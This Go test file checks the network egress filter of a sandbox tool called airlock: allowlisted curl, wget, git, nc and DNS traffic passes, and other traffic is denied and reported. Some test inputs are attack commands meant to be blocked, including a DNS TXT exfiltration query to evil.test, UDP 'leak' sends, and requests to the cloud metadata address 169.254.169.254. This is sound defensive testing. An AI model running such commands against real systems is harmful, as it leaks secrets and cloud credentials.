package sandbox_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlockhq/airlock/egress"
	"github.com/airlockhq/airlock/internal/testnet"
	"github.com/airlockhq/airlock/profile"
	"github.com/airlockhq/airlock/sandbox"
)

// The test hosts of this package's egress tests; 203.0.113.0/24 and
// 2001:db8:a2::/64 are documentation prefixes that count as public, and
// exist only on the veth pairs the tests create.
const (
	egressPub4  = "203.0.113.0/24"
	egressPub6  = "2001:db8:a2::/64"
	egressPriv4 = "10.213.12.0/24"
	egressPriv6 = "fd00:a1:12::/64"
	egressHello = "hello through the gateway\n"
)

// egressLab is a public and a private test host, an upstream DNS server
// that logs every question, and the servers the clients in the sandbox
// talk to.
type egressLab struct {
	pub, priv *testnet.Host
	dns       *testnet.DNSServer
	ca        *testnet.CA
	port8081  *testnet.CountingListener
	udpSink   net.PacketConn
	echoOpen  atomic.Int64 // echo connections the test host holds open
}

func newEgressLab(t *testing.T) *egressLab {
	testnet.Require(t)
	l := &egressLab{pub: testnet.NewHost(t, egressPub4, egressPub6), priv: testnet.NewHost(t, egressPriv4, egressPriv6)}
	p4, p6 := l.pub.Addr4, l.pub.Addr6
	l.dns = testnet.NewDNSServer(t, l.pub, map[string][]netip.Addr{
		"allowed.test.": {p4, p6},
		"evil.test.":    {p4},
		"loop.test.":    {netip.MustParseAddr("127.0.0.1")},
		"meta.test.":    {netip.MustParseAddr("169.254.169.254")},
	})
	l.ca = testnet.NewCA(t)
	mux := http.NewServeMux()
	mux.HandleFunc("/hello", func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, egressHello) })
	mux.Handle("/repo.git/", http.StripPrefix("/repo.git/", http.FileServer(http.Dir(egressBareRepo(t)))))
	serve := func(ln net.Listener) {
		srv := &http.Server{Handler: mux}
		go srv.Serve(ln)
		t.Cleanup(func() { srv.Close() })
	}
	serve(l.pub.ListenTCP(t, "", 80))
	serve(l.pub.ListenTCP(t, "", 8443))
	serve(l.priv.ListenTCP(t, "", 8080))
	serve(tls.NewListener(l.pub.ListenTCP(t, "", 443), &tls.Config{Certificates: []tls.Certificate{l.ca.Issue(t, []string{"allowed.test"})}}))
	l.port8081 = testnet.Count(l.pub.ListenTCP(t, "", 8081))
	serve(l.port8081)
	echo := l.pub.ListenTCP(t, "", 7)
	go func() {
		for {
			c, err := echo.Accept()
			if err != nil {
				return
			}
			l.echoOpen.Add(1)
			go func() {
				io.Copy(c, c)
				c.Close()
				l.echoOpen.Add(-1)
			}()
		}
	}()
	l.udpSink = l.pub.ListenUDP(t, "", 5353)
	return l
}

func egressBareRepo(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	src, bare := filepath.Join(dir, "src"), filepath.Join(dir, "repo.git")
	script := `set -e
git init -q "$1" && cd "$1" && echo through-the-gateway > README && git add README
git -c user.email=t@t -c user.name=t commit -qm first
git clone -q --bare "$1" "$2" && git -C "$2" update-server-info`
	if out, err := exec.Command("sh", "-c", script, "sh", src, bare).CombinedOutput(); err != nil {
		t.Fatalf("make repo: %v: %s", err, out)
	}
	return bare
}

// executor builds an Executor for network spec n whose supervisor asks
// the lab's DNS server, never the host's resolver.
func (l *egressLab) executor(t *testing.T, n profile.NetworkSpec) (*sandbox.Executor, string) {
	t.Helper()
	ws := t.TempDir()
	s := profile.Preset("workspace")
	s.Workspace = ws
	s.Network = n
	p, err := profile.New(s)
	if err != nil {
		t.Fatal(err)
	}
	ex, err := sandbox.NewWithOptions(p, sandbox.Options{Resolver: l.dns.Resolver()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ex.Close() })
	return ex, p.Workspace()
}

func egressRun(t *testing.T, ex *sandbox.Executor, script string) *sandbox.Result {
	t.Helper()
	res, err := ex.Run(context.Background(), sandbox.Cmd{Args: []string{"sh", "-c", script}, Timeout: time.Minute})
	if err != nil {
		t.Fatalf("run %q: %v", script, err)
	}
	return res
}

func mustSucceed(t *testing.T, res *sandbox.Result, want string) {
	t.Helper()
	if res.Status != sandbox.StatusSucceeded || !strings.Contains(string(res.Stdout), want) {
		t.Fatalf("status %s, want stdout containing %q; stdout %q stderr %q", res.Status, want, res.Stdout, res.Stderr)
	}
}

// mustDeny checks the run failed, wrote the agent's line on stderr, and
// lists the denial in the Result.
func mustDeny(t *testing.T, res *sandbox.Result, protocol, target, reason string) {
	t.Helper()
	if res.Status == sandbox.StatusSucceeded {
		t.Errorf("the run succeeded; stdout %q", res.Stdout)
	}
	for _, d := range res.Denials {
		if d.Kind == "network" && d.Protocol == protocol && d.Target == target && strings.Contains(d.Reason, reason) {
			if !strings.Contains(string(res.Stderr), "airlock: blocked ") || !strings.Contains(string(res.Stderr), target+" (") {
				t.Errorf("no line about %s on stderr: %s", target, res.Stderr)
			}
			return
		}
	}
	t.Fatalf("no %s denial of %s (%s); denials %+v; stderr %s", protocol, target, reason, res.Denials, res.Stderr)
}

// buildHTTPGet compiles a Go client whose transport ignores proxy
// variables (Proxy: nil) into dir.
func buildHTTPGet(t *testing.T, dir string) string {
	t.Helper()
	if _, err := exec.LookPath("go"); err != nil {
		t.Skip("no go toolchain to build the client")
	}
	src := filepath.Join(t.TempDir(), "main.go")
	os.WriteFile(src, []byte(`package main

import (
	"io"
	"net/http"
	"os"
	"time"
)

func main() {
	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: nil}}
	resp, err := c.Get(os.Args[1])
	if err != nil {
		os.Stderr.WriteString(err.Error() + "\n")
		os.Exit(1)
	}
	io.Copy(os.Stdout, resp.Body)
}
`), 0o644)
	bin := filepath.Join(dir, "httpget")
	cmd := exec.Command("go", "build", "-o", bin, src)
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod", "GO111MODULE=off")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build client: %v\n%s", err, out)
	}
	return bin
}

func TestEgressAllowlist(t *testing.T) {
	testnet.RequireTools(t, "curl", "wget", "git", "nc", "dig", "nslookup")
	l := newEgressLab(t)
	ex, ws := l.executor(t, profile.NetworkSpec{Mode: profile.NetworkModeAllow, Allow: []string{
		"allowed.test", "allowed.test:7", "loop.test", "meta.test", "[2001:db8:a2::2]:8443", "10.213.12.2:8080",
	}})
	os.WriteFile(filepath.Join(ws, "ca.pem"), l.ca.PEM, 0o644)
	url := "http://allowed.test/hello"

	t.Run("report", func(t *testing.T) {
		r := ex.Report()
		for _, g := range []profile.Guarantee{profile.NetworkFiltered, profile.PrivateRangeBlock} {
			if st := r.Status(g); st.Status != sandbox.Enforced || !strings.Contains(st.Mechanism, "TAP device") {
				t.Errorf("%s: %s %q", g, st.Status, st.Mechanism)
			}
		}
	})
	t.Run("resolv.conf names the gateway; the host's is untouched", func(t *testing.T) {
		before, _ := os.ReadFile("/etc/resolv.conf")
		res := egressRun(t, ex, "cat /etc/resolv.conf")
		mustSucceed(t, res, "nameserver "+egress.GatewayIPv4)
		after, _ := os.ReadFile("/etc/resolv.conf")
		if sha256.Sum256(before) != sha256.Sum256(after) {
			t.Fatal("the host's /etc/resolv.conf changed")
		}
	})
	clients := []struct{ name, script string }{
		{"curl", "curl -sS --max-time 10 " + url},
		{"curl https with a test CA", "curl -sS --max-time 10 --cacert ca.pem https://allowed.test/hello"},
		{"wget", "wget -qO- -T 10 " + url},
		{"python3 urllib", "/usr/bin/python3 -c 'import urllib.request,sys; sys.stdout.write(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode())' " + url},
		{"IPv6", "curl -sS -6 --max-time 10 " + url},
		{"private literal", "curl -sS --max-time 10 http://10.213.12.2:8080/hello"},
	}
	for _, c := range clients {
		t.Run(c.name, func(t *testing.T) { mustSucceed(t, egressRun(t, ex, c.script), egressHello) })
	}
	t.Run("Go net/http with Proxy nil, proxy variables set", func(t *testing.T) {
		buildHTTPGet(t, ws)
		proxy := "HTTP_PROXY=http://10.0.2.2:3128 http_proxy=http://10.0.2.2:3128 HTTPS_PROXY=http://10.0.2.2:3128 "
		mustSucceed(t, egressRun(t, ex, proxy+"./httpget "+url), egressHello)
		mustDeny(t, egressRun(t, ex, proxy+"./httpget http://allowed.test:8081/hello"),
			"tcp", "allowed.test:8081", "port 8081 is not allowed for allowed.test")
		// Each run has its own gateway: an address is known only if this
		// run resolved it.
		mustDeny(t, egressRun(t, ex, proxy+"./httpget http://"+l.pub.Addr4.String()+"/hello"),
			"tcp", l.pub.Addr4.String()+":80", "not in allowlist")
		mustDeny(t, egressRun(t, ex, proxy+"./httpget http://evil.test/"), "dns", "evil.test", "not in allowlist")
	})
	t.Run("git clone over http", func(t *testing.T) {
		// Into the sandbox's /tmp: the create guard refuses a new .git
		// in the workspace.
		mustSucceed(t, egressRun(t, ex, "git clone -q http://allowed.test/repo.git /tmp/clone && cat /tmp/clone/README"), "through-the-gateway")
	})
	t.Run("nc raw tcp", func(t *testing.T) {
		mustSucceed(t, egressRun(t, ex, "echo ping-pong | nc -q 1 -w 5 allowed.test 7"), "ping-pong")
	})
	t.Run("dig and nslookup", func(t *testing.T) {
		mustSucceed(t, egressRun(t, ex, "dig +short +time=3 +tries=1 allowed.test A"), l.pub.Addr4.String())
		mustSucceed(t, egressRun(t, ex, "nslookup allowed.test"), l.pub.Addr4.String())
	})

	t.Run("another port on the allowed host", func(t *testing.T) {
		mustDeny(t, egressRun(t, ex, "curl -sS --max-time 5 http://allowed.test:8081/hello"),
			"tcp", "allowed.test:8081", "port 8081 is not allowed for allowed.test; allowed: 7, 80, 443")
		if n := l.port8081.Accepted(); n != 0 {
			t.Fatalf("the test host accepted %d connections on port 8081", n)
		}
	})
	t.Run("a host not in the allowlist", func(t *testing.T) {
		res := egressRun(t, ex, "curl -sS --max-time 5 http://evil.test/hello")
		mustDeny(t, res, "dns", "evil.test", "not in allowlist")
		if l.dns.Asked("evil.test") {
			t.Fatalf("the upstream resolver was asked about evil.test: %v", l.dns.Log())
		}
		mustDeny(t, egressRun(t, ex, "nc -z -w 3 10.213.12.3 80"), "tcp", "10.213.12.3:80", "10.213.12.3 is a private (RFC 1918) address")
		mustDeny(t, egressRun(t, ex, "nc -z -w 3 fd00:a1:12::2 80"), "tcp", "[fd00:a1:12::2]:80", "a unique local (ULA) address")
	})
	t.Run("names that resolve to loopback or metadata", func(t *testing.T) {
		mustDeny(t, egressRun(t, ex, "curl -sS --max-time 5 http://loop.test/"), "dns", "loop.test", "resolves to 127.0.0.1, a loopback address")
		mustDeny(t, egressRun(t, ex, "curl -sS --max-time 5 http://meta.test/"), "dns", "meta.test", "resolves to 169.254.169.254, a cloud metadata address")
		mustDeny(t, egressRun(t, ex, "curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/"), "tcp", "169.254.169.254:80", "a cloud metadata address")
	})
	t.Run("DNS TXT exfiltration", func(t *testing.T) {
		res := egressRun(t, ex, "dig +time=3 +tries=1 c2VjcmV0.evil.test TXT; dig +time=3 +tries=1 allowed.test TXT")
		if !strings.Contains(string(res.Stdout), "status: NXDOMAIN") {
			t.Fatalf("want NXDOMAIN for the exfiltration name: %s", res.Stdout)
		}
		for _, q := range l.dns.Log() {
			if strings.Contains(q, "c2vjcmv0") || strings.HasSuffix(q, " TXT") {
				t.Fatalf("the upstream resolver was asked %q", q)
			}
		}
	})
	t.Run("UDP to an allowed host", func(t *testing.T) {
		res := egressRun(t, ex, "echo leak | nc -u -w 1 allowed.test 5353; exit 1")
		mustDeny(t, res, "udp", "allowed.test:5353", "UDP other than DNS")
		l.udpSink.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
		if n, _, err := l.udpSink.ReadFrom(make([]byte, 64)); err == nil {
			t.Fatalf("the test host received a datagram of %d bytes", n)
		}
	})
	t.Run("IPv6 literal rule", func(t *testing.T) {
		mustSucceed(t, egressRun(t, ex, "curl -sS -g --max-time 5 http://[2001:db8:a2::2]:8443/hello"), egressHello)
		mustDeny(t, egressRun(t, ex, "curl -sS -g --max-time 5 http://[2001:db8:a2::2]:8081/hello"),
			"tcp", "[2001:db8:a2::2]:8081", "port 8081 is not allowed for 2001:db8:a2::2; allowed: 8443")
		// Once the name led there, the refusal names it and lists what
		// the name and the literal allow together.
		mustDeny(t, egressRun(t, ex, "curl -sS -6 --max-time 5 http://allowed.test:8081/hello"),
			"tcp", "allowed.test:8081", "port 8081 is not allowed for allowed.test; allowed: 7, 80, 443, 8443")
	})
}

// TestEgressAllMode: network "all" reaches any public address but still
// refuses private and metadata ones, except an exact literal.
func TestEgressAllMode(t *testing.T) {
	testnet.RequireTools(t, "curl")
	l := newEgressLab(t)
	ex, _ := l.executor(t, profile.NetworkSpec{Mode: profile.NetworkModeAll, Allow: []string{"10.213.12.2:8080"}})
	if st := ex.Report().Status(profile.PrivateRangeBlock); st.Status != sandbox.Enforced {
		t.Fatalf("private-range-block %s: %s", st.Status, st.Reason)
	}
	mustSucceed(t, egressRun(t, ex, "curl -sS --max-time 5 http://evil.test/hello"), egressHello)
	mustSucceed(t, egressRun(t, ex, "curl -sS --max-time 5 http://10.213.12.2:8080/hello"), egressHello)
	mustDeny(t, egressRun(t, ex, "curl -sS --max-time 5 http://169.254.169.254/"), "tcp", "169.254.169.254:80", "a cloud metadata address")
	mustDeny(t, egressRun(t, ex, "curl -sS --max-time 5 http://meta.test/"), "dns", "meta.test", "a cloud metadata address")
	mustDeny(t, egressRun(t, ex, "curl -sS --max-time 5 http://10.213.12.2/"), "tcp", "10.213.12.2:80", "port 80 is not allowed for 10.213.12.2")
}

// TestEgressTeardown: a connection still open when the run ends is torn
// down, and nothing of the egress layer outlives the run.
func TestEgressTeardown(t *testing.T) {
	testnet.RequireTools(t, "nc")
	l := newEgressLab(t)
	ex, _ := l.executor(t, profile.NetworkSpec{Mode: profile.NetworkModeAllow, Allow: []string{"allowed.test:7"}})
	before := testnet.GatewayGoroutines()
	for _, c := range []struct {
		name    string
		script  string
		timeout time.Duration
	}{
		{"timeout", "(echo hi; sleep 100) | nc allowed.test 7", 2 * time.Second},
		{"background process", "(echo hi; sleep 100) | nc allowed.test 7 & sleep 1; exit 0", 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			res, err := ex.Run(context.Background(), sandbox.Cmd{Args: []string{"sh", "-c", c.script}, Timeout: c.timeout})
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(string(res.Stdout), "hi") {
				t.Fatalf("the connection never carried data: %s %q %q", res.Status, res.Stdout, res.Stderr)
			}
			deadline := time.Now().Add(2 * time.Second)
			for l.echoOpen.Load() != 0 && time.Now().Before(deadline) {
				time.Sleep(10 * time.Millisecond)
			}
			if n := l.echoOpen.Load(); n != 0 {
				t.Fatalf("the test host still holds %d connections after the run ended", n)
			}
			if left := testnet.WaitGatewayGoroutines(len(before)); left != "" {
				t.Fatalf("goroutines of the egress layer outlived the run:\n%s", left)
			}
		})
	}
}

// TestEgressReportJSON: the --report form of a network denial.
func TestEgressReportJSON(t *testing.T) {
	testnet.RequireTools(t, "curl")
	l := newEgressLab(t)
	ex, _ := l.executor(t, profile.NetworkSpec{Mode: profile.NetworkModeAllow, Allow: []string{"allowed.test"}})
	var stderr bytes.Buffer
	res, err := ex.Run(context.Background(), sandbox.Cmd{Args: []string{"curl", "-sS", "--max-time", "5", "http://" + l.pub.Addr4.String() + ":22/"}, Stderr: &stderr})
	if err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("airlock: blocked connect to %s:22 (not in allowlist)\n", l.pub.Addr4)
	if !strings.HasPrefix(stderr.String(), want) {
		t.Errorf("stderr %q; want it to start with %q", stderr.String(), want)
	}
	b, _ := json.Marshal(res)
	wantJSON := fmt.Sprintf(`{"kind":"network","protocol":"tcp","target":"%s:22","reason":"not in allowlist"}`, l.pub.Addr4)
	if !strings.Contains(string(b), wantJSON) {
		t.Fatalf("report %s; want %s", b, wantJSON)
	}
}

// TestEgressUDP: a "/udp" entry lets a program in the sandbox exchange
// datagrams with that host and port, through the gateway; another port,
// a TCP entry's host, and TCP to the UDP entry's port stay refused, and
// no flow outlives the run.
func TestEgressUDP(t *testing.T) {
	testnet.RequireTools(t, "nc")
	l := newEgressLab(t)
	// The test host answers each datagram on 5353 with "echo " and the
	// datagram, and counts those that reach 5354.
	go func() {
		buf := make([]byte, 65535)
		for {
			n, from, err := l.udpSink.ReadFrom(buf)
			if err != nil {
				return
			}
			l.udpSink.WriteTo(append([]byte("echo "), buf[:n]...), from)
		}
	}()
	var leaked atomic.Int64
	port5354 := l.pub.ListenUDP(t, "", 5354)
	go func() {
		buf := make([]byte, 65535)
		for {
			if _, _, err := port5354.ReadFrom(buf); err != nil {
				return
			}
			leaked.Add(1)
		}
	}()
	ex, ws := l.executor(t, profile.NetworkSpec{Mode: profile.NetworkModeAllow, Allow: []string{"allowed.test:5353/udp", "allowed.test:7"}})
	client := `import socket, sys
addr = socket.getaddrinfo(sys.argv[1], int(sys.argv[2]), socket.AF_INET, socket.SOCK_DGRAM)[0][4]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.connect(addr)
s.send(sys.argv[3].encode())
print(s.recv(65535).decode())
`
	if err := os.WriteFile(filepath.Join(ws, "udp.py"), []byte(client), 0o644); err != nil {
		t.Fatal(err)
	}
	before := testnet.GatewayGoroutines()

	mustSucceed(t, egressRun(t, ex, "/usr/bin/python3 udp.py allowed.test 5353 ping"), "echo ping")
	mustSucceed(t, egressRun(t, ex, "echo datagram | nc -u -w 2 allowed.test 5353"), "echo datagram")
	mustDeny(t, egressRun(t, ex, "/usr/bin/python3 udp.py allowed.test 5354 leak"),
		"udp", "allowed.test:5354", "port 5354 is not allowed for allowed.test; allowed: 5353/udp")
	if n := leaked.Load(); n != 0 {
		t.Fatalf("the test host received %d datagrams on port 5354", n)
	}
	mustDeny(t, egressRun(t, ex, "/usr/bin/python3 udp.py allowed.test 7 leak"),
		"udp", "allowed.test:7", "port 7 is not allowed for allowed.test; allowed: 5353/udp")
	mustDeny(t, egressRun(t, ex, "nc -z -w 3 allowed.test 5353"),
		"tcp", "allowed.test:5353", "port 5353 is not allowed for allowed.test; allowed: 7")
	if left := testnet.WaitGatewayGoroutines(len(before)); left != "" {
		t.Fatalf("goroutines of the egress layer outlived the runs:\n%s", left)
	}
}
